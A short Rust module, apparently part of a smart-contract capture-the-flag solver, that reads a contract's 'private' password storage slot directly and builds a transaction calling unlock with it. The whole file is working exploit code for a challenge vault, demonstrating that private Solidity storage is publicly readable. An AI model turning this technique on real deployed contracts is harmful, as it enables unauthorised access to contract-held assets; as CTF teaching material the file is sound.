//! Private storage is still public: read the password slot directly.

use alloy::primitives::{Address, B256, U256};
use alloy::sol_types::SolCall;

use crate::blockchain::TxIntent;
use crate::challenges::{ChallengeContext, ChallengeResult, IVault};

pub async fn exploit(ctx: &ChallengeContext<'_>, slot: u64) -> ChallengeResult<TxIntent> {
    let password = ctx
        .tx
        .client()
        .get_storage_at(ctx.target, U256::from(slot))
        .await?;

    tracing::info!(contract = %ctx.target, slot, password = %password, "Read storage slot");
    Ok(unlock_intent(ctx.target, password))
}

fn unlock_intent(target: Address, password: B256) -> TxIntent {
    TxIntent::call(target, IVault::unlockCall { password }.abi_encode())
}
